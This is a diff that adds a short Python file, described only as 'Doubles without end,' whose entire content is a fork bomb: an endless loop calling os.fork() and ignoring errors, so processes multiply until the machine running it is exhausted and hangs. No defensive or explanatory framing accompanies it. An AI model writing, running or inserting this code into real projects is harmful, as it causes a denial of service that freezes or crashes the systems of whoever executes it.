@@ -1,0 +1,9 @@
+"""Doubles without end."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
